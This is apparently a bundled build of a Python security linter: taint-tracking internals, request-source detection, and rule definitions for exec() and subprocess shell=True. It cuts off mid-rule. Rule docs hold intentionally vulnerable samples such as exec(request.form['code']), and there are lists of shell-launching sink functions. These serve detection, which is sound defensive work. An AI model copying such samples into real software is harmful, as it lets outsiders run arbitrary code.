        const args = () => argNodes.map((arg) => this.evaluate(arg, reader, depth));
        const argData = () => joinAll(args().map(dataOf));
        const sanitised = (value, mask3) => sanitise(dataOf(value), mask3, step(`${callee.text}()`, call, "sanitised"));
        if (UNIVERSAL_SANITISERS.has(name) && (!BUILTIN_SANITISERS.has(name) || this.module.isBuiltin(name))) {
          const value = argData();
          return value.facts.length > 0 ? sanitised(value, EVERY_SINK) : value;
        }
        const calleeMethod = callee.type === "attribute" ? callee.childForFieldName("attribute")?.text ?? "" : "";
        const mask2 = SANITISER_MASKS.get(name) ?? (calleeMethod ? SANITISER_MASKS.get(`.${calleeMethod}`) : void 0);
        if (mask2 !== void 0 && (!BUILTIN_SINK_CASTS.has(name) || this.isUnshadowedBuiltin(name))) {
          const value = argData();
          return value.facts.length > 0 ? sanitised(value, mask2) : value;
        }
        const method = callee.type === "attribute" ? callee.childForFieldName("attribute")?.text ?? "" : "";
        if (CLEAN_CONVERSIONS.has(name) || method && CLEAN_CONVERSIONS.has(`.${method}`)) {
          const receiver = callee.type === "attribute" ? dataOf(this.evaluate(callee.childForFieldName("object"), reader, depth)) : CONSTANT_VALUE;
          const value = join3(receiver, argData());
          return value.facts.length > 0 ? sanitised(value, EVERY_SINK) : value;
        }
        if (LOOKUPS.has(name) || method && LOOKUPS.has(`.${method}`))
          return UNKNOWN_VALUE;
        const local = this.localCallable(callee, reader, depth);
        if (local)
          return this.callLocal(call, local.node, local.receiver, reader, depth);
        if (LIST_CONSTRUCTORS.has(name)) {
          const [first] = args();
          return first ? { facts: first.facts, ...first.items ? { items: [...first.items] } : {} } : { facts: [], items: [] };
        }
        if (DICT_CONSTRUCTORS.has(name)) {
          const values2 = args();
          if (values2.length === 0)
            return { facts: [], entries: new Map(argNodes.length === 0 ? [] : []) };
          if (values2.length === 1 && values2[0].entries && argNodes[0].type !== "keyword_argument")
            return { facts: values2[0].facts, entries: new Map(values2[0].entries) };
          const entries = /* @__PURE__ */ new Map();
          let known = true;
          argNodes.forEach((arg, index) => {
            const key = arg.type === "keyword_argument" ? arg.childForFieldName("name")?.text : void 0;
            if (key)
              entries.set(key, values2[index]);
            else
              known = false;
          });
          return { facts: joinAll(values2.map(dataOf)).facts, ...known ? { entries } : {} };
        }
        if (PROPAGATORS.has(name))
          return argData();
        if (callee.type === "attribute") {
          const receiverNode = callee.childForFieldName("object");
          if (method === "format" && receiverNode.type === "string") {
            const built = this.stringBuilding(call, reader, depth);
            if (built)
              return built;
          }
          const receiver = this.evaluate(receiverNode, reader, depth);
          if (BUILDING_METHODS.has(method))
            return join3(dataOf(receiver), argData());
          if (method === "replace")
            return join3(dataOf(receiver), argNodes[1] ? dataOf(this.evaluate(argNodes[1], reader, depth)) : CONSTANT_VALUE);
          const element = this.containerRead(method, receiver, args);
          if (element)
            return element;
          if (STRING_METHODS.has(method) || ACCESS_METHODS.has(method))
            return dataOf(receiver);
          return { ...joinAll([UNKNOWN_VALUE, throughUnknownCall(dataOf(receiver)), followingArguments(args(), argNodes)]), opaque: true };
        }
        const values = args();
        if (/^[A-Z]/.test(callee.type === "identifier" ? callee.text : "") && values.some((value) => value.requestObject)) {
          return { facts: [UNKNOWN_FACT], requestObject: "wrapper" };
        }
        const constructed = /^[A-Z]/.test(callee.type === "identifier" ? callee.text : callee.childForFieldName("attribute")?.text ?? "");
        return { ...joinAll([UNKNOWN_VALUE, followingArguments(values, argNodes)]), ...constructed ? {} : { opaque: true } };
      }
      /** `d.get("k")`, `conf.get("s", "k")`, `lst.pop(0)`, `d.items()` on a container whose contents are known. */
      containerRead(method, receiver, args) {
        if (!receiver.entries && !receiver.items)
          return void 0;
        const text = (literal) => typeof literal === "string" || typeof literal === "number" ? String(literal) : void 0;
        if (receiver.entries && (method === "get" || method === "getint" || method === "getfloat" || method === "getboolean" || method === "pop" || method === "setdefault")) {
          const values = args();
          const first = text(values[0]?.literal);
          if (first === void 0)
            return void 0;
          const entry = receiver.entries.get(first);
          if (entry?.entries && values.length >= 2 && text(values[1]?.literal) !== void 0 && method !== "pop" && method !== "setdefault") {
            return entry.entries.get(text(values[1].literal)) ?? CONSTANT_VALUE;
          }
          return entry ?? values[1] ?? literalValue(null);
        }
        if (receiver.items && method === "pop") {
          const values = args();
          const index = values.length === 0 ? receiver.items.length - 1 : values[0].literal;
          if (typeof index !== "number")
            return void 0;
          return receiver.items[index < 0 ? index + receiver.items.length : index] ?? CONSTANT_VALUE;
        }
        if (receiver.items && method === "popleft")
          return receiver.items[0] ?? CONSTANT_VALUE;
        return void 0;
      }
      /** A function, lambda, method or class of this module that a callee names, with the receiver bound to `self`. */
      localCallable(callee, reader, depth) {
        if (callee.type === "identifier") {
          const value2 = this.evaluate(callee, reader, depth);
          return value2.callable ? { node: value2.callable } : void 0;
        }
        if (callee.type !== "attribute")
          return void 0;
        const object = callee.childForFieldName("object");
        const method = callee.childForFieldName("attribute")?.text ?? "";
        if (object.type === "identifier" && (object.text === "self" || object.text === "cls")) {
          const owner = enclosingClassOf(callee);
          const found = owner ? methodOf(owner, method) : void 0;
          return found ? { node: found, receiver: UNKNOWN_VALUE } : void 0;
        }
        const value = this.evaluate(object, reader, depth);
        if (value.instanceOf) {
          const found = methodOf(value.instanceOf, method);
          return found ? { node: found, receiver: value } : void 0;
        }
        if (value.callable?.type === "class_definition") {
          const found = methodOf(value.callable, method);
          return found ? { node: found } : void 0;
        }
        return void 0;
      }
      /** A call of this module's function: its summary with the parameters bound to the arguments. */
      callLocal(call, fn, receiver, reader, depth) {
        const argNodes = argumentList(call);
        const args = argNodes.map((arg) => this.evaluate(arg, reader, depth));
        const callee = call.childForFieldName("function");
        if (fn.type === "class_definition") {
          const data = joinAll(args.map(dataOf));
          return { facts: data.facts, instanceOf: fn, ...args.some((arg) => arg.requestObject) ? { requestObject: "wrapper" } : {} };
        }
        const parameters = (fn.childForFieldName("parameters")?.namedChildren ?? []).filter((parameter) => parameterName(parameter));
        const names = parameters.map((parameter) => parameterName(parameter).text);
        const bound = /* @__PURE__ */ new Map();
        const isStatic2 = fn.type === "function_definition" && decoratorsOf(fn).includes("staticmethod");
        const takesReceiver = !isStatic2 && fn.type === "function_definition" && (names[0] === "self" || names[0] === "cls");
        if (takesReceiver)
          bound.set(names[0], receiver ?? UNKNOWN_VALUE);
        const positional = parameters.slice(takesReceiver ? 1 : 0).filter((parameter) => parameter.type !== "list_splat_pattern" && parameter.type !== "dictionary_splat_pattern" && parameter.type !== "keyword_separator");
        const splat = parameters.find((parameter) => parameter.type === "list_splat_pattern");
        const keywordSplat = parameters.find((parameter) => parameter.type === "dictionary_splat_pattern");
        let index = 0;
        let unbound2 = CONSTANT_VALUE;
        argNodes.forEach((arg, position) => {
          const value = args[position];
          if (arg.type === "keyword_argument") {
            const key2 = arg.childForFieldName("name")?.text ?? "";
            if (names.includes(key2))
              bound.set(key2, value);
            else if (keywordSplat)
              bound.set(parameterName(keywordSplat).text, join3(bound.get(parameterName(keywordSplat).text) ?? CONSTANT_VALUE, dataOf(value)));
          } else if (arg.type === "list_splat" || arg.type === "dictionary_splat") {
            unbound2 = join3(unbound2, join3(dataOf(value), UNKNOWN_VALUE));
          } else if (index < positional.length) {
            bound.set(parameterName(positional[index++]).text, value);
          } else if (splat) {
            bound.set(parameterName(splat).text, join3(bound.get(parameterName(splat).text) ?? CONSTANT_VALUE, dataOf(value)));
          }
        });
        const parameterValue = (name) => {
          const value = bound.get(name);
          if (value)
            return value;
          if (unbound2.facts.length > 0)
            return unbound2;
          const parameter = parameters[names.indexOf(name)];
          const fallback = parameter?.childForFieldName("value");
          const literal = fallback ? constantValue(fallback) : void 0;
          return literal !== void 0 && !Array.isArray(literal) ? literalValue(literal) : fallback || !parameter ? UNKNOWN_VALUE : CONSTANT_VALUE;
        };
        const bindings = new Map(names.map((name) => [name, parameterValue(name)]));
        const key = `${call.id}|${names.map((name) => `${name}=${fingerprint(bindings.get(name), 0)}`).join(";")}`;
        let symbol = this.callSymbols.get(key);
        if (!symbol)
          this.callSymbols.set(key, symbol = { id: this.callSymbols.size, fn, step: step(`${callee.text}()`, call), bindings });
        return { facts: [{ kind: "unknown", flow: null, sanitised: 0, tail: false, call: symbol }] };
      }
      /** Every call symbol in `value` replaced by what the function returns for those arguments. */
      resolveCalls(value, stack, cuts) {
        if (!hasCalls(value, 0))
          return value;
        return this.resolveCallsIn(value, stack, cuts, 0);
      }
      /** `mapFacts` with each call symbol resolved (`resolvedFacts`): the same structure, elements too. */
      resolveCallsIn(value, stack, cuts, depth) {
        const facts = this.resolvedFacts(value.facts, stack, cuts);
        if (depth > 8)
          return { facts };
        return {
          ...value,
          facts,
          ...value.items ? { items: value.items.map((item) => this.resolveCallsIn(item, stack, cuts, depth + 1)) } : {},
          ...value.entries ? { entries: new Map([...value.entries].map(([key, entry]) => [key, this.resolveCallsIn(entry, stack, cuts, depth + 1)])) } : {}
        };
      }
      /**
       * The facts with each call symbol replaced by its call's results, each kind of fact once (the first found keeps
       * its flow, as `unionFacts`). A result's key is known before it is built, so one already present costs a lookup:
       * a sink's value may hold a symbol per earlier call, all resolving to the same few facts.
       */
      resolvedFacts(facts, stack, cuts) {
        const seen = /* @__PURE__ */ new Set();
        const resolved = [];
        for (const fact of facts) {
          if (!fact.call) {
            const key = factKey(fact);
            if (!seen.has(key)) {
              seen.add(key);
              resolved.push(fact);
            }
            continue;
          }
          this.work.resolutions++;
          for (const result of this.resolvedCall(fact.call, stack, cuts)) {
            const sanitised = result.sanitised | fact.sanitised;
            const tail = result.tail || fact.tail;
            const key = resultKey(result, sanitised, tail);
            if (seen.has(key))
              continue;
            seen.add(key);
            resolved.push({ ...result, flow: concatFlow(result.flow, fact.flow), sanitised, tail });
          }
        }
        return resolved;
      }
      /** What one call returns, every symbol in it resolved; computed once per call symbol unless a cycle cut it short. */
      resolvedCall(call, stack, cuts) {
        const known = this.resolvedCalls.get(call.id);
        if (known)
          return known;
        const own = { cut: Infinity };
        if (call.merged) {
          const parts = call.merged.map((part) => this.resolvedCall(part, stack, own));
          const facts2 = mapFacts({ facts: [...parts[0], ...parts[1]] }, (fact) => fact).facts;
          if (own.cut >= stack.length)
            this.resolvedCalls.set(call.id, facts2);
          cuts.cut = Math.min(cuts.cut, own.cut);
          return facts2;
        }
        const returns = this.summaryOf(call.fn, stack, own);
        const bound = mapFacts(returns, (result) => result.parameter?.owner.id === call.fn.id ? compose(call.bindings.get(result.parameter.name) ?? UNKNOWN_VALUE, result) : result);
        const stepped = bound.facts.map((result) => ({ ...result, flow: extendFlow(result.flow, call.step) }));
        const facts = this.resolveCalls({ facts: stepped }, stack, own).facts;
        if (own.cut >= stack.length)
          this.resolvedCalls.set(call.id, facts);
        cuts.cut = Math.min(cuts.cut, own.cut);
        return facts;
      }
      /** What a function returns, its parameters as symbols and the calls in it resolved; computed once. */
      summaryOf(fn, stack, cuts) {
        const known = this.summaries.get(fn.id);
        if (known)
          return known;
        const pending = this.provisionalSummaries.get(fn.id);
        if (pending && stack[pending.cut] === pending.head) {
          cuts.cut = Math.min(cuts.cut, pending.cut);
          return pending.value;
        }
        const position = stack.indexOf(fn.id);
        if (position >= 0 || stack.length >= MAX_CHAIN) {
          cuts.cut = Math.min(cuts.cut, position >= 0 ? position : -1);
          return UNKNOWN_VALUE;
        }
        const { analysis } = this.analysisOf(fn, []);
        const own = { cut: Infinity };
        const value = analysis ? this.resolveCalls(analysis.returns, [...stack, fn.id], own) : UNKNOWN_VALUE;
        if (own.cut >= stack.length)
          this.summaries.set(fn.id, value);
        else if (own.cut >= 0)
          this.provisionalSummaries.set(fn.id, { value, cut: own.cut, head: stack[own.cut] });
        cuts.cut = Math.min(cuts.cut, own.cut);
        return value;
      }
    };
    resultKeys = /* @__PURE__ */ new WeakMap();
    HOST_SINKS = maskOf(["redirect", "url"]);
    HOST_ATTRIBUTES = /* @__PURE__ */ new Set(["netloc", "hostname"]);
    ANY_GENERAL_SINK = EVERY_SINK & ~maskOf(["nosql"]);
    SANITISER_MASKS = (() => {
      const masks = /* @__PURE__ */ new Map();
      for (const [sink, names] of Object.entries(SINK_SANITISERS)) {
        for (const name of names)
          masks.set(name, (masks.get(name) ?? 0) | maskOf([sink]));
      }
      return masks;
    })();
    PROPERTY_DECORATORS = /^(functools\.)?(property|cached_property)$/;
    CLOSED_LITERAL_NODES = /* @__PURE__ */ new Set(["string", "integer", "float", "true", "false", "none"]);
  }
});

// dist/python/taint.js
function traceValue(node, module2, options = {}) {
  const tracer = tracerFor(module2);
  const value = tracer.resolveCalls(tracer.valueAt(node), [], { cut: Infinity });
  return tracer.verdict(tracer.resolveParameters(value), options.sink, options.leading === true);
}
function strongestTrace(traces) {
  let best = { kind: "constant", flow: [] };
  for (const trace of traces)
    if (RANK[trace.kind] > RANK[best.kind])
      best = trace;
  return best;
}
function sinkFlow(trace, sink, label) {
  const callee = sink.type === "call" ? sink.childForFieldName("function") ?? sink : sink;
  return [...trace.flow, step(label ?? callee.text, callee)];
}
function flowText(flow) {
  return flow.join(" \u2192 ");
}
function requestFlow(value, sink, module2, sinkClass) {
  const trace = traceValue(value, module2, { sink: sinkClass });
  return trace.kind === "request" ? sinkFlow(trace, sink) : void 0;
}
function describeSource(trace) {
  switch (trace.kind) {
    case "request":
      return "request data";
    case "user-input":
      return { argv: "command-line arguments", environment: "an environment variable", file: "file contents", network: "network input", stdin: "standard input" }[trace.origin ?? ""] ?? "outside input";
    case "parameter":
      return "a function parameter";
    case "unknown":
      return "a value computed at run time";
    default:
      return "a constant";
  }
}
function flowMessage(what, flow) {
  return `${what}: ${flowText(flow)}`;
}
function requestEvidence(value, sink, module2, sinkClass, message) {
  const flow = value ? requestFlow(value, sink, module2, sinkClass) : void 0;
  return flow ? { confidence: "high", flow, message: flowMessage(message, flow) } : void 0;
}
function isRequestObject(node, module2) {
  return tracerFor(module2).isRequestObject(node);
}
function parameterFlows(node, module2, options = {}, owner) {
  const fn = owner ?? module2.functionAt(node);
  if (!fn)
    return [];
  const tracer = tracerFor(module2);
  return symbolFlows(tracer.resolveCalls(tracer.valueAt(node), [], { cut: Infinity }).facts, fn, options);
}
function symbolFlows(facts, fn, options) {
  const names = (fn.childForFieldName("parameters")?.namedChildren ?? []).map((parameter) => parameterName(parameter)?.text);
  const bit = options.sink ? maskOf([options.sink]) : -1;
  const flows = [];
  for (const fact of facts) {
    if (fact.parameter?.owner.id !== fn.id || options.leading && fact.tail)
      continue;
    const kind = (fact.sanitised & bit) !== 0 ? "sanitised" : "parameter";
    const existing = flows.find((flow) => flow.parameter === fact.parameter.name);
    if (existing && (existing.kind === "parameter" || kind === "sanitised"))
      continue;
    const entry = { parameter: fact.parameter.name, index: names.indexOf(fact.parameter.name), kind, flow: flowSteps(fact.flow) };
    if (existing)
      flows.splice(flows.indexOf(existing), 1, entry);
    else
      flows.push(entry);
  }
  return flows;
}
function localCallsTo(fn, module2) {
  const name = fn.childForFieldName("name")?.text;
  if (!name)
    return [];
  const tracer = tracerFor(module2);
  return module2.callsNamed(/* @__PURE__ */ new Set([name])).filter((call) => tracer.calleeOf(call)?.id === fn.id);
}
function mayHoldRequestData(node, module2) {
  const facts = requestFunctionsOf(module2);
  if (!facts.any)
    return false;
  let fn = module2.functionAt(node);
  if (!fn)
    return true;
  for (; fn; fn = fn.parent ? module2.functionAt(fn.parent) : null) {
    let known = facts.functions.get(fn.id);
    if (known === void 0) {
      const words2 = fn.text.match(/[A-Za-z_]\w*/g) ?? [];
      known = isRouteHandler(fn) || REQUEST_SOURCE_TEXT.test(fn.text) || words2.some((word) => facts.names.has(word));
      facts.functions.set(fn.id, known);
    }
    if (known)
      return true;
  }
  return false;
}
function requestFunctionsOf(module2) {
  let facts = requestFunctions.get(module2);
  if (facts)
    return facts;
  facts = { any: REQUEST_SOURCE_TEXT.test(module2.source), names: /* @__PURE__ */ new Set(), functions: /* @__PURE__ */ new Map() };
  requestFunctions.set(module2, facts);
  if (!facts.any)
    return facts;
  const definitions = module2.functionDefinitions().map((fn) => ({
    name: fn.childForFieldName("name")?.text ?? "",
    text: fn.text,
    // The decorator is outside the definition's text: a route's parameters are request data.
    route: isRouteHandler(fn),
    words: void 0
  }));
  let pending = definitions.filter((definition) => {
    if (!definition.route && !REQUEST_SOURCE_TEXT.test(definition.text))
      return true;
    facts.names.add(definition.name);
    return false;
  });
  for (let added = true; added && pending.length > 0; ) {
    added = false;
    pending = pending.filter((definition) => {
      definition.words ??= new Set(definition.text.match(/[A-Za-z_]\w*/g) ?? []);
      if (![...facts.names].some((name) => definition.words.has(name)))
        return true;
      facts.names.add(definition.name);
      added = true;
      return false;
    });
  }
  return facts;
}
function tracerFor(module2) {
  let tracer = tracers.get(module2);
  if (!tracer) {
    tracer = new Tracer(module2);
    tracers.set(module2, tracer);
  }
  return tracer;
}
var REQUEST_SOURCE_TEXT, requestFunctions, tracers;
var init_taint = __esm({
  "dist/python/taint.js"() {
    "use strict";
    init_scope();
    init_analysis();
    init_value();
    init_flow();
    init_specs();
    init_roles();
    REQUEST_SOURCE_TEXT = /\b(req|request|Request|HttpRequest|matchdict)\b|@[\w.]*\.(route|api_route|get|post|put|delete|patch|head|options|websocket)\(|\b(api_view|require_http_methods|require_GET|require_POST|require_safe|csrf_exempt)\b/;
    requestFunctions = /* @__PURE__ */ new WeakMap();
    tracers = /* @__PURE__ */ new WeakMap();
  }
});

// dist/rules/support/name-triggers.js
function nameTrigger(qualified) {
  const segments = qualified.replace(/\(\)/g, "").split(".").filter(Boolean);
  return [.../* @__PURE__ */ new Set([segments[0], segments[segments.length - 1]])];
}
function listedCalls(...optionNames) {
  const names = (options) => optionNames.flatMap((name) => options[name] ?? []);
  return { triggers: (options) => names(options).map(nameTrigger), callees: (options) => names(options).map(lastName) };
}
var init_name_triggers = __esm({
  "dist/rules/support/name-triggers.js"() {
    "use strict";
    init_imports();
  }
});

// dist/rules/types.js
function defineRule(rule) {
  return rule;
}
var init_types = __esm({
  "dist/rules/types.js"() {
    "use strict";
  }
});

// dist/rules/support/taint-rule.js
function levelTable(verdicts2) {
  return { request: "none", "user-input": "none", "stored-input": "none", parameter: "none", unknown: "none", sanitised: "none", constant: "none", ...verdicts2 };
}
function sourceKind(trace) {
  if (trace.kind === "user-input" && (trace.origin === "environment" || trace.origin === "file"))
    return "stored-input";
  return trace.kind;
}
function sourceWords(trace) {
  if (trace.kind === "sanitised")
    return "a checked or sanitised value";
  return describeSource(trace);
}
function traceSinkValue(value, module2, sink, leading) {
  if (value === null)
    return UNKNOWN_VALUE2;
  const values = Array.isArray(value) ? value : [value];
  return strongestTrace(values.map((node) => traceValue(node, module2, { sink, leading })));
}
function sinkVerdict(spec, call, value, module2, at = call) {
  return verdictFor(spec, traceSinkValue(value, module2, spec.sinkClass, spec.leading === true), call, module2, at);
}
function verdictFor(spec, trace, call, module2, at, flow = trace.flow.length > 0 ? sinkFlow(trace, call) : []) {
  const verdict = spec.levels[sourceKind(trace)];
  if (verdict === "none")
    return void 0;
  const what = spec.describe(sourceWords(trace), call, module2);
  if (verdict === "audit") {
    return { node: at, severity: "low", confidence: "low", auditOnly: true, message: `${what} (shown by --profile audit)` };
  }
  if (flow.length === 0)
    return { node: at, ...verdict, message: what };
  return { node: at, ...verdict, message: flowMessage(what, flow), flow };
}
function sinkVerdicts(spec, call, value, module2, at = call) {
  const trace = traceSinkValue(value, module2, spec.sinkClass, spec.leading === true);
  const own = () => {
    const report = verdictFor(spec, trace, call, module2, at);
    return report ? [report] : [];
  };
  if (trace.kind !== "parameter" || value === null)
    return own();
  const callers = callerTraces(Array.isArray(value) ? value : [value], module2, spec.sinkClass, spec.leading === true);
  if (!callers)
    return own();
  const reports = [];
  let passedOn = false;
  for (const caller of callers) {
    const kind = sourceKind(caller.trace);
    if ((kind === "request" || kind === "user-input") && typeof spec.levels[kind] === "object") {
      const flow = [...sinkFlow(caller.trace, caller.call), ...caller.parameter.flow, ...sinkFlow({ kind: "parameter", flow: [] }, call)];
      const report = verdictFor(spec, caller.trace, call, module2, caller.call, flow);
      if (report)
        reports.push(report);
    } else if (kind !== "constant" && kind !== "sanitised") {
      passedOn = true;
    }
  }
  if (passedOn)
    return [...reports, ...own()];
  if (reports.length > 0)
    return reports;
  const quiet = verdictFor(spec, { kind: "constant", flow: [] }, call, module2, at);
  return quiet ? [quiet] : [];
}
function callerTraces(values, module2, sink, leading) {
  const fn = values.length > 0 ? module2.functionAt(values[0]) : null;
  if (!fn || fn.type !== "function_definition")
    return void 0;
  const owner = classOfMethod(fn);
  const init = owner && fn.childForFieldName("name")?.text !== "__init__" ? methodOf(owner, "__init__") : void 0;
  const groups = [{ target: fn, calls: () => localCallsTo(fn, module2), constructs: false }];
  if (owner && init)
    groups.push({ target: init, calls: () => localCallsTo(owner, module2), constructs: true });
  const traces = [];
  let reached = false;
  for (const { target, calls: callsOf, constructs } of groups) {
    const flows = values.flatMap((node) => parameterFlows(node, module2, { sink, leading }, target)).filter((flow) => flow.kind === "parameter");
    if (flows.length === 0)
      continue;
    reached = true;
    const calls = callsOf();
    if (calls.length === 0)
      return void 0;
    const parameters = (target.childForFieldName("parameters")?.namedChildren ?? []).map((parameter) => parameter.text);
    const bound = parameters[0] === "self" || parameters[0] === "cls";
    for (const call of calls) {
      for (const parameter of flows) {
        const callee = call.childForFieldName("function");
        const receiver = callee?.type === "attribute" ? callee.childForFieldName("object") : null;
        const viaClass = !!receiver && (receiver.type === "identifier" || receiver.type === "attribute") && /^[A-Z]/.test(receiver.text.split(".").pop() ?? "");
        const viaInstance = bound && (constructs || !!receiver && !viaClass);
        if (viaInstance && parameter.index === 0) {
          if (constructs || !receiver)
            return void 0;
          traces.push({ call, trace: traceValue(receiver, module2, { sink, leading }), parameter });
          continue;
        }
        const position = parameter.index - (viaInstance ? 1 : 0);
        const passed = argument(call, parameter.parameter, position >= 0 ? position : null);
        const trace = passed ? traceValue(passed, module2, { sink, leading }) : hasSplat(call) ? { kind: "unknown", flow: [] } : { kind: "constant", flow: [] };
        traces.push({ call, trace, parameter });
      }
    }
  }
  return reached ? traces : void 0;
}
function hasSplat(call) {
  return (call.childForFieldName("arguments")?.namedChildren ?? []).some((arg) => arg.type === "list_splat" || arg.type === "dictionary_splat");
}
function isFixed(match) {
  return "fixed" in match;
}
function matchVerdict(spec, match, node, module2) {
  const sinkClass = match.sinkClass ?? spec.sinkClass;
  const traced = traceSinkValue(match.value, module2, sinkClass, spec.leading === true);
  const trace = match.refine ? match.refine(traced) : traced;
  if (!trace)
    return void 0;
  const at = match.at ?? node;
  const judged = { sinkClass, leading: spec.leading, levels: match.levels ?? spec.levels, describe: match.describe ?? spec.describe };
  return verdictFor(judged, trace, node, module2, at, [...sinkFlow(trace, at, match.label), ...match.then ?? []]);
}
function taintRule(spec) {
  const { sinks = {}, match = {}, firstOnly, inModule, findSink, when, safeForm, leading, levels, describe = NO_MESSAGE, reportAt, optionSinks, sinkClass, cost = "fast", ...meta } = spec;
  const fixedNames = Object.keys(sinks);
  const byTable = fixedNames.length > 0 || findSink !== void 0 || optionSinks !== void 0;
  const judge2 = { sinkClass, leading, levels, describe };
  const rule = {
    ...fixedNames.length > 0 ? { triggers: fixedNames.map(nameTrigger) } : {},
    // Sinks that options add are found by `calleeKeywords` or listed by the rule itself, as are matched ones.
    ...fixedNames.length > 0 && !optionSinks ? { callees: fixedNames.map(lastName) } : {},
    ...meta,
    cost,
    create(context) {
      const { module: module2, options } = context;
      if (inModule && !inModule(module2))
        return {};
      const table = new Map(Object.entries(optionSinks ? { ...sinks, ...optionSinks(options) } : sinks));
      const tableSink = (node) => {
        const direct = module2.callName(node);
        const name = direct !== void 0 && table.has(direct) ? direct : callNameThroughWith(node, module2) ?? direct;
        const where = name === void 0 ? void 0 : table.get(name);
        let value;
        if (where)
          value = possibleArgument(node, where.keyword ?? null, where.position) ?? null;
        else if (findSink)
          value = findSink(node, module2);
        if (value === void 0)
          return false;
        if (when && !when(node, module2, name, options))
          return true;
        const safe = safeForm?.(node, module2);
        if (safe) {
          context.report({ node: reportAt?.(node) ?? node, severity: "low", confidence: "low", auditOnly: true, message: `${safe} (shown by --profile audit)` });
          return true;
        }
        for (const report of sinkVerdicts(judge2, node, value, module2, reportAt?.(node) ?? node))
          context.report(report);
        return true;
      };
      const matched = (matcher, node) => {
        const found = matcher(node, module2, options);
        if (!found)
          return;
        for (const one of Array.isArray(found) ? found : [found]) {
          const report = isFixed(one) ? one.fixed : matchVerdict(judge2, one, node, module2);
          if (!report)
            continue;
          context.report(report);
          if (firstOnly)
            return;
        }
      };
      const handlers = {};
      for (const [type, matcher] of Object.entries(match))
        handlers[type] = (node) => matched(matcher, node);
      if (byTable) {
        const callMatcher = match.call;
        handlers.call = (node) => {
          if (!tableSink(node) && callMatcher)
            matched(callMatcher, node);
        };
      }
      return handlers;
    }
  };
  return defineRule(rule);
}
var HIGH, REQUEST_ONLY, SINK_LEVELS, FLOW_LEVELS, UNKNOWN_VALUE2, NO_MESSAGE;
var init_taint_rule = __esm({
  "dist/rules/support/taint-rule.js"() {
    "use strict";
    init_syntax();
    init_arguments();
    init_context_managers();
    init_taint();
    init_name_triggers();
    init_types();
    HIGH = { severity: "high", confidence: "high" };
    REQUEST_ONLY = levelTable({ request: HIGH });
    SINK_LEVELS = {
      request: HIGH,
      "user-input": HIGH,
      "stored-input": { severity: "medium", confidence: "medium" },
      parameter: { severity: "medium", confidence: "medium" },
      unknown: { severity: "medium", confidence: "low" },
      sanitised: "audit",
      constant: "audit"
    };
    FLOW_LEVELS = {
      request: HIGH,
      "user-input": "audit",
      "stored-input": "audit",
      parameter: "audit",
      unknown: "audit",
      sanitised: "none",
      constant: "none"
    };
    UNKNOWN_VALUE2 = { kind: "unknown", flow: [] };
    NO_MESSAGE = () => {
      throw new Error("a matched sink of a rule without `describe` must bring its own");
    };
  }
});

// dist/rules/code-injection/exec-used.js
var SINKS, exec_used_default;
var init_exec_used = __esm({
  "dist/rules/code-injection/exec-used.js"() {
    "use strict";
    init_taint_rule();
    SINKS = { exec: { position: 0 }, "builtins.exec": { position: 0 } };
    exec_used_default = taintRule({
      id: "exec-used",
      aliases: ["B102", "S102", "exec_used"],
      category: "code-injection",
      cwe: 78,
      severity: "medium",
      confidence: "high",
      message: "exec() runs arbitrary Python code",
      fix: "Replace exec() with explicit code: a dispatch table, getattr on a known object, or a real parser.",
      sinkClass: "code",
      sinks: SINKS,
      // A function of the module's own named `exec` or `compile` is not the builtin.
      when: (_call, module2, name) => name === "builtins.exec" || module2.isBuiltin("exec"),
      levels: SINK_LEVELS,
      describe: (source) => `exec() runs code built from ${source}`,
      docs: {
        why: "exec() executes any Python it is given (also as a code object compile() made of it); if any part of the string can be influenced from outside, so can the program. Code from request data or other outside input blocks; from a parameter or an unknown value it is shown; a constant is shown only by --profile audit.",
        bad: [
          'from flask import request\ndef run():\n    exec(request.form["code"])\n',
          "def run(code):\n    exec(code)\n"
        ],
        good: ["def run(name):\n    HANDLERS[name]()\n", 'exec("import this")\n'],
        references: ["https://docs.python.org/3/library/functions.html#exec", "https://cwe.mitre.org/data/definitions/95.html"]
      }
    });
  }
});

// dist/rules/support/process-functions.js
var SUBPROCESS_FUNCTIONS, SHELL_FUNCTIONS, NO_SHELL_FUNCTIONS;
var init_process_functions = __esm({
  "dist/rules/support/process-functions.js"() {
    "use strict";
    SUBPROCESS_FUNCTIONS = [
      "subprocess.Popen",
      "subprocess.call",
      "subprocess.check_call",
      "subprocess.check_output",
      "subprocess.run"
    ];
    SHELL_FUNCTIONS = [
      "os.system",
      "os.popen",
      "os.popen2",
      "os.popen3",
      "os.popen4",
      "popen2.popen2",
      "popen2.popen3",
      "popen2.popen4",
      "popen2.Popen3",
      "popen2.Popen4",
      "commands.getoutput",
      "commands.getstatusoutput",
      "subprocess.getoutput",
      "subprocess.getstatusoutput",
      // Not in Bandit's list: asyncio's shell launcher hands its string to /bin/sh as os.system does.
      "asyncio.create_subprocess_shell"
    ];
    NO_SHELL_FUNCTIONS = [
      "os.execl",
      "os.execle",
      "os.execlp",
      "os.execlpe",
      "os.execv",
      "os.execve",
      "os.execvp",
      "os.execvpe",
      "os.spawnl",
      "os.spawnle",
      "os.spawnlp",
      "os.spawnlpe",
      "os.spawnv",
      "os.spawnve",
      "os.spawnvp",
      "os.spawnvpe",
      "os.startfile"
    ];
  }
});

// dist/rules/command-injection/support/shell-truthiness.js
function shellArgument(call) {
  return keywordArgument(call, "shell");
}
function isShellTrue(call, module2) {
  const value = shellArgument(call);
  if (!value)
    return false;
  const constant = module2.constant(value);
  if (constant === void 0)
    return !["dictionary", "list", "tuple"].includes(value.type) || value.namedChildCount > 0;
  if (Array.isArray(constant))
    return constant.length > 0;
  return !!constant;
}
var SHELL_KEYWORD_NAME;
var init_shell_truthiness = __esm({
  "dist/rules/command-injection/support/shell-truthiness.js"() {
    "use strict";
    init_arguments();
    SHELL_KEYWORD_NAME = /^shell$/;
  }
});

// dist/rules/command-injection/subprocess-shell-true.js
var COMMAND, subprocess_shell_true_default;
var init_subprocess_shell_true = __esm({
  "dist/rules/command-injection/subprocess-shell-true.js"() {
    "use strict";
    init_taint_rule();
    init_process_functions();
    init_shell_truthiness();
    COMMAND = { keyword: "args", position: 0 };
    subprocess_shell_true_default = taintRule({
      id: "subprocess-shell-true",
      aliases: ["B602", "S602", "subprocess_popen_with_shell_equals_true"],
      category: "command-injection",
      cwe: 78,
      severity: "high",
      confidence: "high",
      message: "subprocess call with shell=True runs a command built at run time through the shell",
      fix: 'Pass an argument list and drop shell=True (`subprocess.run(["ls", path])`), or quote every value with shlex.quote.',
      options: { functions: SUBPROCESS_FUNCTIONS },
